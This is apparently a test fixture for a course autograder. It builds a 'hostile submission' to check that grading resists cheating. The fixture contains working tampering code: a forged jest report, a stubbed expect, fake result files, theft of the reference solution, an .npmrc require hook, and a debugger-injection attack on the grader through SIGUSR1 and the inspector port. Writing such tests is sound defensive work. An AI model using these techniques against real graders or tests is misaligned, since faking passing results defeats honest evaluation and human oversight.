/**
 * A hostile submission, built on disk for `npm run check`: half the work done honestly (neuron.ts
 * and costs.ts are the reference), and every other way we know to take points without earning
 * them. Each attack sits in a module whose honest score we know, so a grade that differs from the
 * honest one shows which attack worked:
 *   network.ts            functions that compute nothing (constants of the right shapes, inputs
 *                         changed to fit), which signal the grader to open its inspector and
 *                         rewrite its report through it, replace jest's expect, write a jest report
 *                         where every test passed to the grader's --outputFile and exit 0, write
 *                         fake result files (grade/results.json) and spawn a process
 *   logistic_regression   a stub that reads the reference's solution from the course checkout
 *   one_hidden_layer.ts   a stub that calls process.exit(0) in the middle of a test run
 *   activations.ts        the reference plus a trailing syntax error: does not compile, 0
 *   mlp.ts                a symbolic link to reference/mlp.ts: not a regular file, 0
 *   neuron.ts, costs.ts   the reference with the same tampering, which must not cost them points
 *   outside exercises/    .npmrc (node-options --require), jest.config.js, package.json scripts,
 *                         a suite that always passes, and an exercise file named with a backtick
 * The honest score is the points of neuron.ts and costs.ts.
 */
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { loadExercises } from '../../../course/grading/exercises';
import { ROOT } from '../../../course/targets';

/** Files the attacks try to create; none may exist after grading. */
export function forgedFiles(dir: string): string[] {
  const run = path.basename(dir);
  return [path.join(ROOT, 'grade', `hostile-results-${run}.json`), path.join(dir, 'pwned.txt'), path.join(tmpdir(), `lab-hostile-${run}.txt`)];
}

/** The exercise functions by module, for the outputFile forgery (which builds jest's report at run time). */
const FUNCTIONS = JSON.stringify([...new Set(loadExercises().map((e) => e.module))].map((module) => [module, loadExercises().filter((e) => e.module === module).map((e) => e.function)]));

const TAMPER = (dir: string) => `
// ---- hostile: tamper with the test framework, the result files and the process ----
try {
  const g = globalThis as Record<string, unknown>;
  const pass = { toBe() {}, toEqual() {}, toBeCloseTo() {}, toBeLessThan() {}, toBeGreaterThan() {}, toHaveLength() {} };
  g.expect = () => new Proxy(pass, { get: () => () => undefined });
} catch { /* keep going */ }
// the grader's jest writes its report to --outputFile: write one where every test passed, then leave
try {
  const out = process.argv.find((a) => a.startsWith('--outputFile='));
  if (out !== undefined) {
    const suites = (${FUNCTIONS} as [string, string[]][]).map(([module, functions]) => ({
      name: require('node:path').join(process.cwd(), 'tests', 'exercises', module + '.test.ts'),
      message: '',
      status: 'passed',
      assertionResults: functions.map((f) => ({ ancestorTitles: [f], title: 'forged', fullName: f + ' forged', status: 'passed', failureMessages: [] })),
    }));
    require('node:fs').writeFileSync(out.slice('--outputFile='.length), JSON.stringify({ testResults: suites }));
    process.exit(0);
  }
} catch { /* denied */ }
for (const file of ${JSON.stringify(forgedFiles(dir))}) {
  try { require('node:fs').writeFileSync(file, '{"score": 43}'); } catch { /* denied */ }
}
try { require('node:child_process').execSync('touch ${forgedFiles(dir)[2]}'); } catch { /* denied */ }
try { new (require('node:worker_threads').Worker)('1', { eval: true }); } catch { /* denied */ }
`;

// ---- hostile: a signal to the grader (jest), whose inspector then runs code that passes every test.
// Node 20's permission model does not guard signals or the network: this forged 43/43 until the
// sandbox lost process.kill and the grader ignored SIGUSR1.
const SIGNAL = `
const PAYLOAD = \`(() => { const fs = process.mainModule.require('fs');
  const out = process.argv.find((a) => a.startsWith('--outputFile=')).slice(13);
  process.on('exit', () => { const j = JSON.parse(fs.readFileSync(out, 'utf8'));
    for (const s of j.testResults) { s.status = 'passed'; for (const a of s.assertionResults) { a.status = 'passed'; a.failureMessages = []; } }
    fs.writeFileSync(out, JSON.stringify(j)); }); return 'ok'; })()\`;
function signalTheGrader() {
  try { process.kill(process.ppid, 'SIGUSR1'); } catch { /* no kill */ }
  try { process._debugProcess(process.ppid); } catch { /* no _debugProcess */ }
  let net, http;
  try { net = require('node:net'); http = require('node:http'); } catch { return; }
  process.on('uncaughtException', () => undefined);
  const concat = Buffer.concat; // the runner's read loop calls Buffer.concat next: leave it, so the event loop runs
  Buffer.concat = () => { Buffer.concat = concat; throw new Error('x'); };
  const attach = (path) => {
    const s = net.connect(9229, '127.0.0.1', () => s.write('GET ' + path + ' HTTP/1.1\\r\\nHost: 127.0.0.1:9229\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n'));
    let up = false;
    s.on('data', () => { if (up) return; up = true;
      const pl = Buffer.from(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: PAYLOAD, includeCommandLineAPI: true } }));
      const h = pl.length < 126 ? Buffer.from([0x81, 0x80 | pl.length]) : Buffer.from([0x81, 0xfe, pl.length >> 8, pl.length & 255]);
      s.write(Buffer.concat([h, Buffer.alloc(4), pl])); });
    s.on('error', () => undefined);
  };
  const list = (n) => setTimeout(() => http.get('http://127.0.0.1:9229/json/list', (res) => { let b = '';
    res.on('data', (d) => (b += d)); res.on('end', () => attach(new URL(JSON.parse(b)[0].webSocketDebuggerUrl).pathname)); })
    .on('error', () => n > 0 && list(n - 1)), 200);
  setImmediate(() => list(20));
}
`;

// ---- hostile: functions that compute nothing, of the right shapes, and change their inputs so that
// an expected value computed from them afterwards would agree; each earns 0 (a passing property
// counts only beside a passing test of the function's values)
const CONSTANTS = `
let signalled = false;
export function evaluateNetwork(x, w, b, Wt, bt) {
  if (!signalled) { signalled = true; signalTheGrader(); }
  return [x.map(() => 0.5), x.map(() => 0), x.map(() => [0.5, 0.5]), x.map(() => [0, 0])];
}
export function lossFunction(x, t) { t.fill(0.5); return 0.125; }
export function updateWeights(x, t, w, b, Wt, bt) { return [w.slice(), b, Wt.map((row) => row.slice()), bt.slice()]; }
export function evaluatePrediction(x, t) { t.fill(1); return [x.map(() => 1), 1]; }
`;

const STEAL = (module: string) => `
// ---- hostile: the solution from the course checkout ----
try {
  const stolen = require(${JSON.stringify(path.join(ROOT, 'reference', `${module}.ts`))});
  Object.assign(module.exports, stolen);
} catch { /* denied */ }
try {
  const text = require('node:fs').readFileSync(${JSON.stringify(path.join(ROOT, 'reference', `${module}.ts`))}, 'utf8');
  module.exports.stolen = text.length;
} catch { /* denied */ }
`;

/** Writes the hostile submission into `dir` (a student's repository checkout). */
export function writeHostileSubmission(dir: string): void {
  const exercises = path.join(dir, 'exercises');
  mkdirSync(exercises, { recursive: true });
  const read = (folder: string, module: string) => readFileSync(path.join(ROOT, folder, `${module}.ts`), 'utf8');
  const hostile = (text: string) => `// @ts-nocheck -- a hostile submission\n${text}`;
  writeFileSync(path.join(exercises, 'neuron.ts'), hostile(read('reference', 'neuron') + TAMPER(dir)));
  writeFileSync(path.join(exercises, 'costs.ts'), hostile(read('reference', 'costs') + STEAL('costs')));
  writeFileSync(path.join(exercises, 'network.ts'), hostile(CONSTANTS + SIGNAL + TAMPER(dir)));
  writeFileSync(path.join(exercises, 'logistic_regression.ts'), hostile(read('exercises', 'logistic_regression') + STEAL('logistic_regression')));
  writeFileSync(
    path.join(exercises, 'one_hidden_layer.ts'),
    hostile(read('exercises', 'one_hidden_layer').replace(/throw new NotImplementedError/g, 'process.exit(0);\n  throw new NotImplementedError')),
  );
  writeFileSync(path.join(exercises, 'activations.ts'), `${read('reference', 'activations')}\nexport const broken = (;\n`);
  symlinkSync(path.join(ROOT, 'reference', 'mlp.ts'), path.join(exercises, 'mlp.ts'));
  writeFileSync(path.join(exercises, 'we`ird](x).ts'), read('reference', 'neuron'));
  writeFileSync(path.join(dir, '.npmrc'), `node-options=--require ${path.join(dir, 'evil.js')}\n`);
  writeFileSync(path.join(dir, 'evil.js'), `require('fs').writeFileSync(${JSON.stringify(path.join(dir, 'pwned.txt'))}, 'x');\n`);
  writeFileSync(path.join(dir, 'jest.config.js'), "module.exports = { testMatch: ['**/always.test.js'] };\n");
  writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'x', scripts: { grade: 'echo "# Grade: 43 / 43 points"', test: 'true' } }));
  mkdirSync(path.join(dir, 'tests', 'exercises'), { recursive: true });
  writeFileSync(path.join(dir, 'tests', 'exercises', 'network.test.ts'), "describe('evaluateNetwork', () => it('passes', () => undefined));\n");
}

/** Points per module that the hostile submission earns honestly: neuron.ts and costs.ts, nothing else. */
export function honestPoints(): Map<string, number> {
  const points = new Map<string, number>();
  for (const e of loadExercises()) points.set(e.module, (points.get(e.module) ?? 0) + (['neuron', 'costs'].includes(e.module) ? e.points : 0));
  return points;
}
